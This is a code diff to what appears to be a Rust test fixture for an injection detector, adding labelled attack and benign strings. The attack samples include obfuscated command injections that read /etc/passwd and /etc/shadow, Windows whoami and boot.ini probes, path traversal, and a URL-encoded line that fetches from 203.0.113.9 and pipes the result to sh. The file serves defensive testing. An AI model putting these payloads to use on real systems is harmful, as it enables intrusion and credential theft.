@@ -93,6 +93,9 @@ const ATTACKS: &[(Category, Source, &str)] = &[
     (Category::CommandInjection, Source::User, "host=example.org%3Bcurl%20http%3A%2F%2F203.0.113.9%2Fs%7Csh"),
     (Category::PathTraversal, Source::User, "c'a't /e\"t\"c/pa[s]swd"),
     (Category::CommandInjection, Source::User, "cat${IFS}/etc/hosts"),
+    (Category::CommandInjection, Source::User, "dir=x;c$u\\at$u /etc$u/shadow"),
+    (Category::CommandInjection, Source::User, "q=FOR /F \"tokens=1\" %%a IN ('whoami') DO echo %%a"),
+    (Category::CommandInjection, Source::User, "x=1 && IF EXIST C:\\boot.ini type C:\\boot.ini"),
     // path traversal and file inclusion
     (Category::PathTraversal, Source::User, "file=../../../../etc/passwd"),
     (Category::PathTraversal, Source::User, "page=%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini"),
@@ -147,6 +150,7 @@ const BENIGN: &[(Source, &str)] = &[
     (Source::User, "true"),
     (Source::User, "Round the total to two decimals and tell me if it\u{2019}s over budget."),
     (Source::User, "and 7 more apples"),
+    (Source::User, "For each item in (the list below), tell me if it exists in stock."),
     (Source::User, "How do I call alert() only once when the page loads?"),
 ];
 
